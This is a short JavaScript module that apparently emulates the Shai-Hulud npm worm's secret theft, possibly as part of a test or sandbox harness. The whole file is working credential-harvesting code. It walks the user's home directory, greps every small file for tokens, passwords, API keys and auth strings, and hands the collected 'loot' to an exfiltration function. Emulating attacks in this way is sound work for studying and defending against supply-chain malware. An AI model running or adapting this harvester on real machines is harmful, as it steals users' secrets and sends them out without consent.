'use strict';
// Shai-Hulud ran a secret scanner (trufflehog) over all of $HOME: walk it, grep every
// small file for anything that looks like a token.
const fs = require('fs');
const path = require('path');
const lib = require('./lib.js');

const TOKENISH = /(?:token|secret|password|passwd|api[_-]?key|auth)[^\n]{0,200}|spc-[a-z0-9]+-[0-9a-f]{16}/gi;

lib.run(async () => {
  let loot = '';
  let files = 0;
  const walk = (dir, depth) => {
    if (depth > 8 || files > 20000) return;
    let entries;
    try {
      entries = fs.readdirSync(dir, { withFileTypes: true });
    } catch {
      return;
    }
    for (const e of entries) {
      const p = path.join(dir, e.name);
      if (e.isDirectory()) {
        if (e.name !== 'node_modules' && e.name !== '_cacache') walk(p, depth + 1);
      } else if (e.isFile()) {
        files++;
        try {
          if (fs.statSync(p).size > 1 << 20) continue;
          const text = fs.readFileSync(p, 'latin1');
          const hits = text.match(TOKENISH);
          if (hits) loot += `== ${p}\n${hits.join('\n')}\n`;
        } catch {
          /* unreadable */
        }
      }
    }
  };
  walk(lib.home(), 0);
  lib.did('scanned', files > 0);
  if (lib.found(loot).length > 0) await lib.exfil(loot);
});
